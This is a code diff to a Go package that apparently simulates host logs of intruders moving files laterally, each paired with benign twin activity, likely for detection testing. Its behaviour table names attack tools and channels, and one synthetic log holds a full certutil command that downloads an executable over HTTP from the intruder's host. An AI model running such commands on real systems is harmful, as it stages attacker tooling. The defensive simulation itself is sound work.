@@ -1,19 +1,20 @@
 package synth
 
 import (
+	"slices"
 	"strings"
 
 	"waybill/internal/model"
 )
 
-// Behaviour is a way in which intruders move a file between Windows hosts, as the
-// logs of those hosts show it, beside an everyday twin: another host, account, file
-// and hour.
+// Behaviour is a way in which intruders move a file between hosts, as the logs of
+// those hosts show it, beside an everyday twin: another host, account, file and hour.
 type Behaviour struct {
 	Channels []string // the words for it in tables of behaviours
 	Script   func(b *Stage) []Shown
-	// Missing names the source that would show it, when the logs of Windows hosts do
-	// not: then there is no script.
+	Twin     func(b *Stage) Shown // nil is Stage.Twin
+	// Missing names the source that would show it, when the logs of hosts do not: then
+	// there is no script.
 	Missing string
 }
 
@@ -23,7 +24,7 @@ type Shown struct {
 	Channel             string
 	User                string // without domain; "" when the logs do not tell
 	Name                string
-	Completeness        string // "" is logged
+	How                 string // "" is logged and done; else the status or completeness that it has instead
 }
 
 // Stage is the hosts of a behaviour: all write the logs that such hosts can write.
@@ -32,8 +33,10 @@ type Stage struct {
 	Entry, Target, Third *Host // where the intruder is, and where the file goes
 	Server               *Host // a file server
 	Admin, Desk          *Host // of the everyday twin
-	Account              string
-	Hash                 string
+	Linux
+	Account string
+	Hash    string
+	pids    int
 }
 
 // NewStage is an office with an intruder on one workstation.
@@ -41,7 +44,7 @@ func NewStage(seed uint64) *Stage {
 	n := New(seed)
 	b := &Stage{Net: n, Entry: n.Host("WS-31", "10.30.1.31"), Target: n.Host("SRV-08", "10.30.0.8"), Third: n.Host("WS-44", "10.30.1.44"),
 		Server: n.Host("FS-02", "10.30.0.5"), Admin: n.Host("ADM-01", "10.30.2.10"), Desk: n.Host("WS-12", "10.30.1.12"), Account: `CORP\h.lang`}
-	b.Hash = hashOf([]byte("tool"))
+	b.Hash, b.Linux = hashOf([]byte("tool")), newLinux(n)
 	for _, h := range []*Host{b.Entry, b.Target, b.Third, b.Server, b.Admin, b.Desk} {
 		// Each host's own address, as the first connection of the day shows it.
 		n.Spoke(h, h, n.Host("DC-03", "10.30.0.2"), 389, `C:\Windows\System32\lsass.exe`, 700)
@@ -79,7 +82,10 @@ func (b *Stage) pushOnly(share, path, name string) Shown {
 }
 
 // Behaviours are all of them.
-var Behaviours = []Behaviour{
+var Behaviours = slices.Concat(windowsWays, unixWays, otherSources)
+
+// windowsWays are the behaviours of Windows hosts.
+var windowsWays = []Behaviour{
 	{Channels: []string{"smb_admin_share", "smb_share", "cross_zone_copy", "smb_encrypted", "smb_over_quic", "cobalt_strike_upload", "net_use"},
 		Script: func(b *Stage) []Shown { return []Shown{b.push(b.Target, "C$", `Windows\Temp\qupd.exe`, "qupd.exe")} }},
 	{Channels: []string{"impacket_smb", "impacket_smbclient"},
@@ -160,7 +166,7 @@ var Behaviours = []Behaviour{
 			b.Log(b.Target, BITS, 60, "transferId", "{1}", "name", "upd", "Id", "{2}", "url", url, "peer", "", "hr", "0x0", "bytesTotal", "73802", "bytesTransferred", "73802")
 			return []Shown{{b.Entry, b.Target, "bits", "", "upd.exe", ""}}
 		}},
-	{Channels: []string{"certutil_http", "http_internal"},
+	{Channels: []string{"certutil_http"},
 		Script: func(b *Stage) []Shown {
 			b.Ran(b.Target, `NT AUTHORITY\SYSTEM`, `C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://`+b.Entry.Addr.String()+`/m.exe C:\Users\Public\m.exe`,
 				`C:\Windows\System32\wbem\WmiPrvSE.exe`, 5400, hashOf([]byte("certutil")))
@@ -250,13 +256,15 @@ var Behaviours = []Behaviour{
 		}},
 	{Channels: []string{"iso_into_ot"},
 		Script: func(b *Stage) []Shown { return []Shown{b.pushOnly("Transfer", `kit.iso`, "kit.iso")} }},
+}
 
+// otherSources are behaviours that the logs of hosts do not show.
+var otherSources = []Behaviour{
 	{Channels: []string{"rpc_backdoor_named_pipe", "rpc_p2p"}, Missing: "packets: pipe events carry no file name and no size"},
 	{Channels: []string{"software_deployment", "sccm_or_wsus_abuse"}, Missing: "the deployment server's audit log: the agent's own writes look like every deployment's"},
-	{Channels: []string{"ftp"}, Missing: "the FTP server's log, or packets: a script's commands are not on the command line"},
 	{Channels: []string{"esxi_datastore_upload", "esxi_vmci_or_guest_ops", "ssh_scp"}, Missing: "ESXi's logs"},
 	{Channels: []string{"macos_scp_rsync_curl"}, Missing: "macOS's unified log"},
-	{Channels: []string{"nfs", "rsync", "scp", "sftp"}, Missing: "the logs of Linux hosts (auditd, sshd, rsyncd), or packets"},
+	{Channels: []string{"nfs"}, Missing: "packets: NFS servers log no files"},
 }
 
 // BehaviourOf finds the behaviour of a channel's word.
